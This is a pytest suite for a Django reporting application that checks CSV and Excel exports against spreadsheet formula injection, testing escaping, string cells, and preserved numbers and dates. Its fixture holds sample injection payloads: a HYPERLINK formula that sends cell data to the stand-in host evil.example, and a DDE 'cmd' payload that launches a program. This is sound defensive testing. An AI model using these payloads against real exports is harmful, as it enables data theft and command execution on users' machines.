"""Spreadsheet formula injection: no exported cell is a formula, in every export and format (issue 9).

A client, clinician, location, agency and payer are named like formulas; every export that carries the
name is opened as the county would: the CSV cell starts with an apostrophe (OWASP), the Excel cell is a
string cell ('s') holding the literal text. Numbers and dates stay numbers and dates.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from coverage.models import Payer
from reports import exports
from tests import factories
from tests.reports.conftest import fail, service_on, signed_in

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
CLIENT_NAME = f"{HYPERLINK}, Ann"
CLINICIAN = "@SUM(1+1)"
LOCATION = "+cmd|' /C calc'!A0"
PAYER = "-2+3"
AGENCY = "\tTab Agency"


@pytest.fixture
def poisoned(program, run):
    program.agency.name = AGENCY
    program.agency.save()
    client = factories.ClientFactory(last_name=HYPERLINK, first_name="Ann")
    clinician = factories.StaffFactory(agency=program.agency, last_name=CLINICIAN, first_name="Bo")
    location = factories.LocationFactory(name=LOCATION)
    factories.EnrollmentFactory(client=client, program=program)
    payer = factories.PayerFactory(name=PAYER, payer_type=Payer.PayerType.MEDI_CAL)
    factories.CoverageFactory(client=client, payer=payer, insured_id="=1+1", subscriber_is_client=False)
    factories.DiagnosisDocumentFactory(client=client, program=program, effective_date=dt.date(2026, 9, 15))
    service = service_on(
        dt.date(2026, 9, 3),
        program=program,
        client=client,
        clinician=clinician,
        location=location,
        units=Decimal("-1.00"),  # a negative number is a number, not text: never escaped
        charge=Decimal("100.00"),
        rate=Decimal("100.00"),
    )
    fail(service, "DX_EFFECTIVE_AFTER_DOS", run=run)
    return service


# (route, parameter naming the format, columns that must hold the poisoned text)
EXPORTS = [
    ("report-service-errors", "export", {"Client": CLIENT_NAME, "Clinician": f"{CLINICIAN}, Bo"}),
    ("api-service-errors", "format", {"Client": CLIENT_NAME, "Clinician": f"{CLINICIAN}, Bo"}),
    ("service-list", "export", {"Client": CLIENT_NAME, "Clinician": f"{CLINICIAN}, Bo", "Location": LOCATION}),
    ("report-diagnosis-errors", "export", {"Client": CLIENT_NAME}),
    (
        "report-program-coverage",
        "export",
        {"Client": CLIENT_NAME, "Agency": AGENCY, "Payer 1": PAYER, "Insured id 1": "=1+1"},
    ),
]


def download(user, route: str, param: str, fmt: str):
    url = "/api/reports/service-errors/" if route == "api-service-errors" else reverse(route)
    response = signed_in(user).get(url, {param: fmt})
    assert response.status_code == 200, response.content[:300]
    return response


@pytest.mark.parametrize(("route", "param", "expected"), EXPORTS, ids=[row[0] for row in EXPORTS])
def test_csv_formula_cells_start_with_an_apostrophe(county_user, poisoned, route, param, expected):
    response = download(county_user, route, param, "csv")
    (row,) = list(csv.DictReader(io.StringIO(response.content.decode())))
    for header, text in expected.items():
        assert row[header] == f"'{text}", header
    # Ids stay plain numbers.
    assert row["Client id"] == str(poisoned.client_id)


@pytest.mark.parametrize(("route", "param", "expected"), EXPORTS, ids=[row[0] for row in EXPORTS])
def test_xlsx_formula_cells_are_string_cells_with_the_literal_text(county_user, poisoned, route, param, expected):
    response = download(county_user, route, param, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    for name, text in expected.items():
        cell = sheet.cell(row=2, column=header.index(name) + 1)
        assert (cell.data_type, cell.value) == ("s", text), name
        # Excel's own "typed with an apostrophe" mark: editing the cell does not make it a formula.
        assert cell.quotePrefix, name
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    client_id = sheet.cell(row=2, column=header.index("Client id") + 1)
    assert (client_id.data_type, client_id.value) == ("n", poisoned.client_id)


def test_xlsx_numbers_and_dates_stay_numbers_and_dates(county_user, poisoned):
    response = download(county_user, "service-list", "export", "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    units = sheet.cell(row=2, column=header.index("Units") + 1)
    assert (units.data_type, units.value) == ("n", -1)
    day = sheet.cell(row=2, column=header.index("Date of service") + 1)
    assert day.is_date
    assert day.value.date() == dt.date(2026, 9, 3)


def test_csv_negative_number_is_not_escaped(county_user, poisoned):
    response = download(county_user, "service-list", "export", "csv")
    (row,) = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["Units"] == "-1.00"
    assert row["Date of service"] == "2026-09-03"


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ann =1", "Ann =1"),
        ("O'Brien", "O'Brien"),
        ("", ""),
        (-1, -1),
        (Decimal("-2.50"), Decimal("-2.50")),
        (dt.date(2026, 1, 1), dt.date(2026, 1, 1)),
    ],
)
def test_escape_formula(value, escaped):
    assert exports.escape_formula(value) == escaped


def test_text_that_looks_like_an_excel_error_stays_text():
    # openpyxl would store "#N/A" as an error value, not the client's text.
    data = exports.to_xlsx([{"client_name": "#N/A"}], [("client_name", "Client")])
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A2"]
    assert (cell.data_type, cell.value) == ("s", "#N/A")
